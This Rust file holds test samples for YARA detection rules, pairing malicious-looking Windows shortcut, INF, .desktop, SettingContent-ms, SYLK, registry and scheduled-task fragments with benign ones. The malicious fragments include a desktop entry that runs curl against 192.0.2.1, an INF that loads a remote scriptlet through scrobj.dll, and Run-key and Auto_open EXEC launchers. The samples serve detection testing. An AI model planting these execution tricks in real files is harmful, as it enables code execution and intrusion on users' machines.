//! Samples of `settings.yar`.

use super::{LNK, Sample, ZEROS, sample};

pub const SAMPLES: &[Sample] = &[
    sample(
        "Shortcut_Runs_Interpreter",
        &[LNK, ZEROS, b"p\0o\0w\0e\0r\0s\0h\0", b"e\0l\0l\0.\0e\0x\0e\0"],
        &[LNK, ZEROS, b"n\0o\0t\0e\0p\0a\0d\0.\0e\0x\0e\0"],
    ),
    sample(
        "Shortcut_Hides_Arguments",
        &[LNK, ZEROS, BLANKS, BLANKS, b"/\0c\0 \0c\0a\0l\0c\0"],
        &[LNK, ZEROS, BLANKS, b"r\0e\0a\0d\0m\0e\0.\0t\0x\0t\0"],
    ),
    sample(
        "Shortcut_To_Share",
        &[LNK, ZEROS, b"\\\0\\\x001\x009\x002\0.\x000\0.\x002\0.\x001\0\\\0a\0"],
        &[LNK, ZEROS, b"C\0:\0\\\0T\0o\0o\0l\0s\0\\\0a\0"],
    ),
    sample(
        "Shortcut_Carries_File",
        &[LNK, ZEROS, b"MZ\x90\0\x03\0\0", b"\0\x04\0\0\0"],
        &[LNK, ZEROS, b"M\0Z\0\x90\0\0\0"],
    ),
    sample(
        "Shell_Command_File_Remote_Icon",
        &[b"[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2", b".1\\a\\b.ico\r\n"],
        &[b"[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n"],
    ),
    sample(
        "Desktop_Ini_Loads_From_Share",
        &[b"[.ShellClassInfo]\r\nIconResource=\\\\192.0.2", b".1\\a\\b.dll,1\r\n"],
        &[b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,1\r\n"],
    ),
    sample(
        "Desktop_Entry_Runs_Shell",
        &[b"[Desktop Entry]\nType=Application\nExec=sh -c \"cu", b"rl http://192.0.2.1/a\"\n"],
        &[b"[Desktop Entry]\nType=Application\nExec=gedit %U\n"],
    ),
    sample(
        "Settings_Content_Runs_Program",
        &[
            b"<SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><AppID>windows.immersivecontrolpanel</AppID>windows/immersivecontrolpanel<DeepLink>%windir%\\system32\\cm",
            b"d.exe /c calc</DeepLink>",
        ],
        &[b"windows/immersivecontrolpanel<DeepLink>ms-settings:display</DeepLink>"],
    ),
    sample(
        "Search_Address_On_Share",
        &[b"<a href=\"search-ms:query=order&crumb=location:\\\\192.0.2", b".1\\share&displayname=Documents\">"],
        &[b"<a href=\"https://example.org/search-ms?query=order\">"],
    ),
    sample(
        "Console_File_With_Script",
        &[b"<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"><String>res://apds", b".dll/redirect.html?target=java", b"script:eval(x)</String></MMC_ConsoleFile>"],
        &[b"<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"><String>Favorites</String></MMC_ConsoleFile>"],
    ),
    sample(
        "Scriptlet_File",
        &[b"<?XML version=\"1.0\"?><scriptlet><registration progid=\"a\"/><script language=\"JSc", b"ript\">var a;</script></scriptlet>"],
        &[b"<?xml version=\"1.0\"?><component><registration number=\"1\"/></component>"],
    ),
    sample(
        "Setup_Inf_Runs_Script",
        &[b"[version]\r\nSignature=$chicago$\r\n[DefaultInstall_SingleUser]\r\nUnRegisterOCXs=a\r\n[a]\r\n%11%\\scr", b"obj.dll,NI,http://192.0.2.1/a.sct\r\n"],
        &[b"[version]\r\nSignature=\"$Windows NT$\"\r\n[DefaultInstall]\r\nCopyFiles=a\r\nAddReg=b\r\n"],
    ),
    sample(
        "Scheduled_Task_Runs_Interpreter",
        &[b"<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Exec><Command>power", b"shell.exe</Command></Exec></Task>"],
        &[b"<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Exec><Command>C:\\Tools\\backup.exe</Command></Exec></Task>"],
    ),
    sample(
        "Registry_File_Starts_Program",
        &[b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\R", b"un]\r\n\"a\"=\"C:\\\\Users\\\\Public\\\\a.exe\"\r\n"],
        &[b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Vendor\\Tool]\r\n\"Language\"=\"de\"\r\n"],
    ),
    sample(
        "Excel_Web_Query",
        &[b"WEB\r\n1\r\nhttp", b"://192.0.2.1/a.dat\r\n"],
        &[b"WEB\r\n1 page of https://example.org/\r\n"],
    ),
    sample(
        "Sylk_Runs_Command",
        &[b"ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;EEX", b"EC(\"calc\")\nE\n"],
        &[b"ID;P\nC;X1;Y1;K\"pump 1\"\nC;X2;Y1;K12.5;ESUM(R1C1:R1C2)\nE\n"],
    ),
];

/// White space of 60 wide letters.
const BLANKS: &[u8] = b" \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0 \0";
